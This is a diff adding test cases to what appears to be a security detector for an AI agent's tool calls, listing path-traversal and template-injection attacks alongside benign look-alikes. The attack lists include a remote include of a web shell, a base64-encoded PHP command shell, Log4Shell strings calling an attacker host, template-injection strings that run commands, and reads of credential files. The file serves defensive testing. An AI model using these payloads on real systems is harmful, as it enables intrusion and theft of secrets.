@@ -178,6 +178,18 @@ PATH_ATTACKS = [
     ("windows dot-space segment", "Windows path normalization (trailing dots and spaces)", "fs.read", {"path": "..\\.. \\..\\windows\\win.ini"}),
     ("hex escapes in value", "JavaScript \\x escapes", "kv.get", {"value": "\\x2e\\x2e\\x2f\\x2e\\x2e\\x2f\\x2e\\x2e\\x2fetc\\x2fpasswd"}),
     ("sensitive file in cp command", "GTFOBins", "shell.exec", {"command": "cp /etc/shadow /tmp/s && chmod 644 /tmp/s"}),
+    ("remote file inclusion", PAT_LFI, "cms.render", {"page": "http://203.0.113.50/shell.txt?"}),
+    ("remote include via data wrapper", PAT_WRAP, "cms.render", {"include": "data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWydjbWQnXSk7ID8+"}),
+    ("NTUSER.DAT hive via traversal", SECLISTS_LFI, "fs.read", {"path": "..\\..\\..\\..\\Users\\Administrator\\NTUSER.DAT"}),
+    ("unattend.xml credentials", SECLISTS_LFI, "fs.read", {"path": "C:\\Windows\\Panther\\Unattend.xml"}),
+    ("nginx conf via traversal in tool args", WSTG_PATH, "llm.tool", call("download", {"file": "../../../../../etc/nginx/nginx.conf"})),
+    ("encoded NUL in middle of absolute", PAT_LFI, "cms.render", {"lang": "/etc/passwd%00en.php"}),
+    ("traversal in markdown image for renderer", PAT, "docs.render", {"src": "../../../../../../etc/passwd"}),
+    ("ssh host key", SECLISTS_LFI, "fs.read", {"path": "/etc/ssh/ssh_host_ed25519_key"}),
+    ("gcloud credentials", "MITRE ATT&CK T1552.001", "fs.read", {"path": "~/.config/gcloud/application_default_credentials.json"}),
+    ("traversal in archive member write", "Snyk Zip Slip (2018)", "archive.extract", {"archive": "theme.tar", "dest": "themes/", "members": [{"name": "..\\..\\..\\..\\Windows\\System32\\evil.dll"}]}),
+    ("percent-encoded dots only", PAT, "fs.read", {"path": ".%2e/.%2e/.%2e/etc/passwd"}),
+    ("semicolon jsessionid bypass", "Orange Tsai, Breaking Parser Logic", "http.get", {"url": "https://app.example.com/public/..;jsessionid=x/..;/admin/config"}),
 ]
 
 # --------------------------------------------------------------------------
@@ -279,6 +291,20 @@ LEGIT_FILES = [
     ("two-level climb in value", "kv.get", {"value": "../../fixtures/users.json"}),
     ("wp plugin file", "fs.read", {"path": "wp-content/plugins/acme/acme.php"}),
     ("backup of settings", "fs.copy", {"src": "config/settings.py", "dest": "config/settings.py.bak"}),
+    ("include field with local partial", "cms.render", {"page": "partials/footer.php"}),
+    ("language file", "i18n.load", {"lang": "locales/fr-FR.json"}),
+    ("layout relative", "cms.render", {"layout": "../layouts/base.html"}),
+    ("download url in file field", "http.download", {"file": "https://releases.example.com/app-2.3.1.tar.gz", "dest": "downloads/app.tgz"}),
+    ("windows long relative", "fs.read", {"path": "..\\..\\..\\src\\Shop.Core\\Models\\Order.cs"}),
+    ("cert key for local tls dev", "fs.read", {"path": "./certs/localhost-key.pem"}),
+    ("dotfiles repo", "fs.read", {"path": "~/dotfiles/.zshrc"}),
+    ("ssh config edit", "fs.write", {"path": "~/.ssh/config", "content": "Host bastion\n  HostName 10.0.0.5\n  User ops\n  IdentityFile ~/.ssh/id_ed25519\n"}),
+    ("chmod private key", "shell.exec", {"cmd": "chmod 600 ~/.ssh/id_ed25519 && ssh -i ~/.ssh/id_ed25519 ops@10.0.0.5 uptime"}),
+    ("aws configure profile", "shell.exec", {"cmd": "aws configure set region eu-west-1 --profile staging && aws sts get-caller-identity --profile staging"}),
+    ("kubeconfig flag", "shell.exec", {"cmd": "kubectl --kubeconfig ~/.kube/config get pods -n api"}),
+    ("monorepo three levels relative config", "fs.read", {"path": "../../../configs/eslint/base.js"}),
+    ("path with many dots in name", "fs.read", {"path": "releases/v1.2.3..v1.3.0.diff"}),
+    ("windows network drive", "fs.read", {"path": "Z:\\Shared\\Design\\logo-final..v2.png"}),
 ]
 
 # --------------------------------------------------------------------------
@@ -403,6 +429,26 @@ TEMPLATE_ATTACKS = [
     ("log4shell sys lookups", LOG4J, "kv.set", {"value": "${${sys:foo:-j}${sys:bar:-n}${sys:baz:-d}${sys:qux:-i}:ldap://x.attacker.example/a}"}),
     ("jinja2 hex in brackets", SSTI_PY, "kv.set", {"value": "{{ ''['\\x5f\\x5fclass\\x5f\\x5f']['\\x5f\\x5fmro\\x5f\\x5f'] }}"}),
     ("jinja2 tilde concat", SSTI_PY, "kv.set", {"value": "{{ ()|attr('__cla'~'ss__') }}"}),
+    ("dot template probe", SSTI_JS, "profile.update", {"name": "{{= 7*7 }}"}),
+    ("smarty arithmetic probe", SSTI_PHP, "profile.update", {"name": "{7*7}"}),
+    ("flask secret key leak", SSTI_PY, "profile.update", {"name": "{{ config.SECRET_KEY }}"}),
+    ("lodash template rce", SSTI_JS, "kv.set", {"value": "<%= global.process.mainModule.require('child_process').execSync('id').toString() %>"}),
+    ("dot template rce", SSTI_JS, "kv.set", {"value": "{{= it.constructor.constructor('return process')().mainModule.require('child_process').execSync('id') }}"}),
+    ("mako self module os", SSTI_PY, "kv.set", {"value": "${self.module.cache.util.os.system('id')}"}),
+    ("tornado handler settings", SSTI_PY, "kv.set", {"value": "{{ handler.settings }}"}),
+    ("java el application scope", SSTI_JAVA, "kv.set", {"value": "${applicationScope}"}),
+    ("thymeleaf scanner exfil", SSTI_JAVA, "view.render", {"section": "__${new java.util.Scanner(T(java.lang.Runtime).getRuntime().exec('id').getInputStream()).next()}__::.x"}),
+    ("jinja2 in yaml field of config tool", SSTI_PY, "config.update", {"settings": {"banner": "Welcome {{ lipsum.__globals__.os.popen('uname -a').read() }}"}}),
+    ("log4shell in json key", LOG4J, "kv.set", {"${jndi:ldap://x.attacker.example/k}": "v"}),
+    ("log4shell k8s and sd lookups", LOG4J, "kv.set", {"value": "${j${k8s:k5:-ND}i${sd:k5:-:}ldap://x.attacker.example/a}"}),
+    ("log4shell main and spring lookups", LOG4J, "kv.set", {"value": "${${main:\\k5:-Jnd}${spring:k5:-i}:ldap://x.attacker.example/a}"}),
+    ("log4shell in search query", LOG4J, "kb.search", {"query": "error ${jndi:rmi://198.51.100.7:1099/Object} in logs"}),
+    ("log4shell hash host trick", LOG4J, "kv.set", {"value": "${jndi:ldap://127.0.0.1#x.attacker.example:1389/a}"}),
+    ("velocity string class", SSTI_JAVA, "kv.set", {"value": "#set($s=\"\")#set($rt=$s.class.forName(\"java.lang.Runtime\"))$rt.getRuntime().exec(\"id\")"}),
+    ("jinja2 mro method", SSTI_PY, "kv.set", {"value": "{{ [].__class__.__base__.__subclasses__() }}"}),
+    ("razor file read", SSTI_NET, "report.render", {"template": "@System.IO.File.ReadAllText(\"C:\\\\inetpub\\\\wwwroot\\\\web.config\")"}),
+    ("erb dir listing", SSTI_RUBY, "kv.set", {"value": "<%= Dir.entries('/') %>"}),
+    ("ssti in comment field", WSTG_SSTI, "comments.create", {"comment": "nice post {{ ''.__class__.__mro__[2].__subclasses__()[40]('/etc/passwd').read() }}"}),
 ]
 
 # --------------------------------------------------------------------------
@@ -502,6 +548,16 @@ LEGIT_TEMPLATES = [
     ("spring el legit", "fs.write", {"path": "SecurityConfig.java", "content": "@PreAuthorize(\"hasRole('ADMIN') or #userId == authentication.principal.id\")\n@Cacheable(value = \"users\", key = \"#{'user-' + #id}\")"}),
     ("nunjucks template", "email.render", {"template": "{% set total = items | sum(attribute='price') %}{{ 'Total: %s' | format(total) }}{% raw %}{{ not rendered }}{% endraw %}"}),
     ("jinja config var from app", "report.render", {"template": "<title>{{ config.SITE_NAME }}</title><link href=\"{{ url_for('static', filename='app.css') }}\">"}),
+    ("flask template config value", "report.render", {"template": "<footer>{{ config.APP_VERSION }} - {{ settings.TIME_ZONE }}</footer>"}),
+    ("spring el system properties", "fs.write", {"path": "AppConfig.java", "content": "@Value(\"#{systemProperties['java.io.tmpdir']}\") String tmp;\n@Value(\"${app.name:demo}\") String name;"}),
+    ("java property tmpdir", "fs.write", {"path": "app.properties", "content": "cache.dir=${java.io.tmpdir}/cache\nuser.dir=${user.home}/.app"}),
+    ("shell arithmetic", "shell.exec", {"cmd": "echo $((7*7)) && echo ${#files[@]} && seq 1 $((N*2))"}),
+    ("math in docs braces", "docs.write", {"content": "Set size: {7, 14, 21}; the product 6*7 = 42; use {n*m} cells for an n-by-m grid."}),
+    ("log4j config with env defaults", "fs.write", {"path": "log4j2.properties", "content": "appender.file.fileName=${env:LOG_DIR:-/var/log/app}/app.log\nproperty.level=${sys:log.level:-INFO}"}),
+    ("handlebars partial with lookup", "email.render", {"template": "{{> (lookup . 'partialName') }} {{#with author}}{{firstName}}{{/with}}"}),
+    ("erb env fetch", "fs.write", {"path": "config/storage.yml", "content": "amazon:\n  bucket: <%= ENV.fetch('S3_BUCKET') %>\n  secret: <%= Rails.application.credentials.dig(:aws, :secret_access_key) %>"}),
+    ("docker secret in erb", "fs.write", {"path": "config/database.yml", "content": "password: <%= File.read('/run/secrets/db_password').strip %>"}),
+    ("angular expressions", "code.review", {"code": "<span>{{ price * quantity | currency }}</span><button (click)=\"save()\">{{ 'SAVE' | translate }}</button>"}),
 ]
 
 
